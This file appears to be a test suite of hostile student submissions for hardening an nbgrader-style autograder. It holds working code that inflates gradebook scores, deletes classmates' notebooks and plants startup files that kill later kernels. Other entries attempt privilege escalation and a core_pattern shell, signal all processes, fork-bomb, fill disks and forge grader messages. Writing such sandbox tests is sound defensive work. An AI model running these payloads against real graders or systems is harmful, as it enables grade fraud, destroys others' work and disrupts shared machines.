"""Answers that do something besides: to the gradebook, to others' work, to the machine, to the run.

On stock nbgrader they write 400 points into the gradebook, edit a neighbour's notebook, lock the database, fill the disk,
stop the run, or stay behind.
"""

from __future__ import annotations

from tests.attacks.attack import Attack, own_cell, right

COUNT = right("count_pairs")


def _beside(name: str, family: str, about: str, deed: str, **more: object) -> Attack:
    """A right answer to count_pairs that does something beside it, whatever comes of that."""
    body = "\n".join(f"        {line}" for line in deed.strip("\n").splitlines())
    source = f"""
{COUNT}
_count_pairs = count_pairs
def deed():
    try:
{body}
    except BaseException:
        pass
def count_pairs(words):
    deed()
    return _count_pairs(words)
"""
    return Attack(name, family, about, {"count_pairs": source}, **more)  # type: ignore[arg-type]


GRADEBOOK = """
import glob, sqlite3, time
for path in ["@OUTPUT@/gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/proc/*/cwd/gradebook.db"), *glob.glob("/tmp/**/gradebook.db")]:
    db = sqlite3.connect(path, timeout=1)
    db.execute("update grade set extra_credit = 400, manual_score = 12, needs_manual_grade = 0")
    db.execute("update grade_cell set max_score = 400")
    db.commit()
"""
WRITE = """
import os, pathlib
for place in ("@SUBMISSIONS@", "@OUTPUT@", "@SOURCE@", "/library/llmcourse", "/opt/sandbox", "/usr/lib", "/etc", "/root", "/home", "/dev", "/sys", "/"):
    for path in [pathlib.Path(place, "@MARKER@"), pathlib.Path(place, "honest", "01_tokenization.ipynb")]:
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("{}")
        except OSError: continue
"""
DAEMON = """
import os, signal
if not os.path.exists("/scratch/@MARKER@") and not open("/scratch/@MARKER@", "w").close() and os.fork() == 0:
    try:
        os.setsid()
        for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM): signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            os.execvp("sh", ["sh", "-c", "while :; do sleep 1; echo x >> @OUTPUT@/@MARKER@; done", "@MARKER@"])
    finally:
        os._exit(0)
"""

WRITING = [
    _beside(
        "writes_the_gradebook", "writing", "sets scores, extra credit and maxima in every gradebook it finds", GRADEBOOK
    ),
    _beside(
        "locks_the_gradebook",
        "writing",
        "opens the database exclusively and keeps it",
        """
import sqlite3, builtins
builtins.db = sqlite3.connect("@OUTPUT@/gradebook.db", isolation_level="EXCLUSIVE")
db.execute("begin exclusive")
""",
    ),
    _beside(
        "writes_everywhere", "writing", "writes into the course, the library, the system and the home folder", WRITE
    ),
    _beside(
        "undoes_its_room",
        "writing",
        "mounts, unshares, traces, changes its user and its limits",
        """
import ctypes, os, resource
libc = ctypes.CDLL(None)
for call in (lambda: libc.unshare(0x10000000), lambda: libc.mount(b"none", b"/", b"tmpfs", 32, b""), lambda: libc.umount2(b"/scratch", 2),
             lambda: libc.ptrace(16, 1, 0, 0), lambda: libc.chroot(b"/"), lambda: libc.setuid(0), lambda: os.setuid(0),
             lambda: resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6)), lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
             lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"), lambda: os.mknod("/scratch/disk", 0o60600, os.makedev(8, 0))):
    try: call()
    except BaseException: pass
""",
    ),
    _beside(
        "edits_a_neighbour",
        "neighbours",
        "overwrites, empties and deletes the work of others",
        """
import shutil, pathlib
for path in ("@SUBMISSIONS@/honest", "@SUBMISSIONS@/../submissions/honest", "@OUTPUT@/submitted/honest", "@OUTPUT@/autograded/honest"):
    for file in pathlib.Path(path).rglob("*.ipynb"): file.write_text("{}")
    shutil.rmtree(path, ignore_errors=True)
""",
    ),
    _beside(
        "leaves_things_for_the_next",
        "neighbours",
        "leaves modules, start-up files, sockets and shared memory for later kernels",
        """
import os, pathlib
for folder in ("/scratch", "/scratch/work", "/scratch/home", "/scratch/ipython/profile_default/startup", "/dev/shm", "/tmp", "/library"):
    for name in ("torch.py", "sitecustomize.py", "usercustomize.py", "00.ipy", "startup.py", "x.pth", "conftest.py", "llmcourse.py"):
        try:
            pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
            pathlib.Path(folder, name).write_text("import os; os._exit(9)")
        except OSError: continue
""",
    ),
    _beside(
        "poisons_what_forks_share",
        "neighbours",
        "changes modules, builtins and memory that were shared when its kernel was forked",
        """
import gc, torch
import llmcourse.course.checks as checks
torch.allclose = torch.equal = checks.raises = lambda *args, **kwargs: True
for module in list(gc.get_objects()):
    if isinstance(module, dict) and "__name__" in module: module.setdefault("poison", 1)
""",
    ),
    _beside(
        "signals_everybody",
        "neighbours",
        "kills and stops its parent, its group, every process that it may signal",
        """
import os, signal
mine = {0, os.getpid(), *map(int, os.listdir("/proc/self/task"))}
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for pid in {os.getppid(), *range(1, 3000)} - mine:
        try: os.kill(pid, number)
        except OSError: pass
""",
    ),
]

LEFTOVERS = [
    _beside("leaves_daemons", "leftovers", "daemonised children that ignore signals and write later", DAEMON),
    _beside(
        "leaves_threads_and_exit_hooks",
        "leftovers",
        "threads, atexit hooks, timers and signal handlers that act later",
        """
import atexit, os, signal, threading
def later():
    while True:
        try: open("@OUTPUT@/@MARKER@", "a").write("x")
        except OSError: pass
        threading.Event().wait(0.2)
threading.Thread(target=later, daemon=False).start()
atexit.register(later)
signal.signal(signal.SIGTERM, lambda *args: later())
""",
    ),
    Attack(
        "leaves_a_listener",
        "leftovers",
        "listens on ports and on an abstract socket, for kernels that come later",
        {
            "decode": """
            import socket, threading
            for family, address in ((socket.AF_INET, ("0.0.0.0", 8765)), (socket.AF_UNIX, "\\0@MARKER@")):
                s = socket.socket(family); s.bind(address); s.listen()
                threading.Thread(target=lambda s=s: [s.accept() for _ in range(9)], daemon=True).start()
            def decode(ids, vocab): return ""
            """
        },
    ),
]


def _dies(name: str, about: str, deed: str, reason: str, **more: object) -> Attack:
    return Attack(
        name,
        "resources",
        about,
        {"decode": f"import os, signal, sys, threading\ndef decode(ids, vocab):\n    {deed}\n    return ''"},
        says={"decode": reason} if reason else {},
        **more,
    )  # type: ignore[arg-type]


RESOURCES = [
    _dies("ends_its_process", "os._exit in the middle of a check", "os._exit(0)", "the process died"),
    _dies(
        "ends_its_cell",
        "raises SystemExit, calls exit() and quit()",
        "get_ipython().ask_exit(); exit(0); sys.exit(0)",
        "",
    ),
    _dies("segfaults", "reads address 0", "__import__('ctypes').string_at(0)", "the process died"),
    _dies("recurses", "calls itself without end", "return decode(ids, vocab)", "RecursionError"),
    _dies(
        "recurses_in_c",
        "overflows the C stack",
        "sys.setrecursionlimit(10**9); f = lambda n: f(n + 1); f(0)",
        "",
        hangs=True,
    ),
    _dies("takes_all_memory", "takes 8 GB", "x = [bytearray(2**28) for _ in range(32)]", ""),
    _dies(
        "takes_memory_in_children",
        "takes 8 GB in children, none of which is large",
        "children = [os.fork() for _ in range(5)]; x = bytearray(b'x') * 2**28; import time; time.sleep(600)",
        "",
        hangs=True,
    ),
    _dies(
        "stops_itself",
        "stops itself with SIGSTOP",
        "os.kill(os.getpid(), signal.SIGSTOP)",
        "no answer within",
        hangs=True,
    ),
    _dies(
        "loops_and_ignores_interrupts",
        "loops, ignoring every interrupt",
        "signal.signal(2, signal.SIG_IGN)\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
        "no answer within",
        hangs=True,
    ),
    _dies(
        "sleeps",
        "waits for ever in C code",
        "threading.Lock().acquire(); l = threading.Lock(); l.acquire(); l.acquire()",
        "no answer within",
        hangs=True,
    ),
    _dies("a_bomb_of_processes", "forks without end", "while True: os.fork()", "", hangs=True),
    _dies(
        "a_bomb_of_threads",
        "starts threads without end",
        "while True: threading.Thread(target=threading.Event().wait).start()",
        "RuntimeError",
    ),
    _dies(
        "a_bomb_of_descriptors", "opens files without end", "x = [open('/dev/null') for _ in range(10**5)]", "OSError"
    ),
    _dies(
        "fills_its_disks",
        "fills the scratch folder and /dev/shm, with bytes and with empty files",
        "for folder in ('/scratch', '/dev/shm'):\n"
        "        try:\n            for n in range(100): open(f'{folder}/f{n}', 'wb').write(bytes(2**24))\n"
        "        except OSError: pass\n"
        "        try:\n            for n in range(10**5): open(f'{folder}/e{n}', 'wb').close()\n"
        "        except OSError: pass",
        "",
        hangs=True,
    ),
    Attack(
        "prints_a_line_of_50_mb",
        "resources",
        "prints 50 MB on one line, in its cell and when it is called",
        {
            "count_pairs": f"print('x' * 50_000_000)\n{COUNT}\n_count_pairs = count_pairs\n"
            "def count_pairs(words):\n    if len(words) > 20: print('x' * 5_000_000)\n    return _count_pairs(words)"
        },
    ),
    Attack(
        "prints_a_million_times",
        "resources",
        "prints a million short lines, and displays thousands of results",
        {
            "count_pairs": f"import sys\nfor n in range(300_000): print(n); sys.stdout.flush() if n % 100 == 0 else None\n"
            f"for n in range(3_000): display(n)\n{COUNT}"
        },
    ),
    Attack(
        "a_reply_of_300_mb",
        "resources",
        "answers with 300 MB at once, and with legal replies that together fill the judge",
        {
            "pretokenize": "def pretokenize(text, pattern=''): return ['x' * 10**6] * 300",
            "encode_word": "def encode_word(word, ranks, byte_ids=None): return [bytes(10**6) for _ in range(200)]",
            "split_special": "kept = []\ndef split_special(text, special_tokens): return [[None] * (2**25) for _ in range(6)]",
        },
        hangs=True,
    ),
    Attack(
        "fills_the_judge_with_objects",
        "resources",
        "has the judge hold more and more memory of arguments and replies",
        {
            "train_bpe_naive": """
            def train_bpe_naive(word_counts, vocab_size):
                import torch
                kept = []
                while True:
                    words = {(n,): 1 for n in range(300_000)}
                    kept.append((words, merge_pair(tuple(range(2_000_000)), (1, 2), 3), torch.zeros(2**22)))
                    count_pairs(words)
            """
        },
        hangs=True,
    ),
    Attack(
        "answers_with_surrogates",
        "resources",
        "prints, raises and returns strings that are no UTF-8",
        {
            "decode": "print('\\ud800 \\udcff')\ndef decode(ids, vocab):\n    print('\\ud800')\n    return '\\ud800'",
            "merge_pair": "def merge_pair(ids, pair, new_id): raise ValueError('\\ud800 \\udfff \\udcff')",
            "pretokenize": "raise ValueError('\\ud800')",
        },
        {"merge_pair": 0},
    ),
    Attack(
        "forged_messages",
        "resources",
        "sends the grader messages that no process of its own sends",
        {"decode": "def decode(ids, vocab): return ''"},
        edit=own_cell("""
            import sys
            frame = sys._getframe()
            while frame.f_code.co_qualname != "OrderServer.serve":
                frame = frame.f_back
            orders, number = frame.f_locals["self"], frame.f_locals["number"]
            for _ in range(60):
                for message in [
                    {}, {"output": {"text": 5}}, {"output": {"text": {"a": 1}}}, {"output": []}, {"output": {}}, {"status": 7},
                    {"output": {"data": [], "metadata": 5}}, {"output": {"data": {"text/plain": "x"}, "metadata": []}},
                    {"output": {"data": {"text/html": {"deep": [1]}, "image/png": 7, "": None}, "metadata": {}}},
                    {"output": {"data": {"application/vnd.x+json": [[[[[]]]]]}, "metadata": {"x": {}}}},
                ]:
                    orders._say({"n": number, **message})
            """),
    ),
    Attack(
        "forged_answers",
        "resources",
        "answers its order many times over, and orders of the grader that have not come yet",
        {"decode": "def decode(ids, vocab): return ''"},
        edit=own_cell("""
            import sys
            frame = sys._getframe()
            while frame.f_code.co_qualname != "OrderServer.serve":
                frame = frame.f_back
            orders = frame.f_locals["self"]
            for number in [frame.f_locals["number"], *range(200)]:
                orders._say({"n": number, "status": "ok", "exit": False})
                orders._say({"n": number, "status": "error", "ename": [], "evalue": {}, "traceback": 5})
            """),
    ),
    Attack(
        "nested_messages",
        "resources",
        "displays what is nested so deep that whoever copies it runs out of stack",
        {"decode": "def decode(ids, vocab): return ''"},
        edit=own_cell("""
            from IPython.display import display
            deep = []
            for _ in range(400):
                deep = [deep]
            display({"application/vnd.x+json": deep}, raw=True)
            """),
    ),
    Attack(
        "no_messages",
        "resources",
        "sends the grader what is no message",
        {"decode": "def decode(ids, vocab): return ''"},
        edit=own_cell("""
            import gc
            from llmcourse.course.remote.cells import OrderServer
            orders = next(found for found in gc.get_objects() if isinstance(found, OrderServer))
            orders._line.send(b"[" * 100_000)
            """),
    ),
    Attack(
        "a_message_without_end",
        "resources",
        "announces a message of 4 GB",
        {"decode": "def decode(ids, vocab): return ''"},
        edit=own_cell("""
            import gc
            from llmcourse.course.remote.cells import OrderServer
            orders = next(found for found in gc.get_objects() if isinstance(found, OrderServer))
            orders._line._socket.sendall(b"\\xff" * 5)
            """),
    ),
]

ATTACKS = [*WRITING, *LEFTOVERS, *RESOURCES]
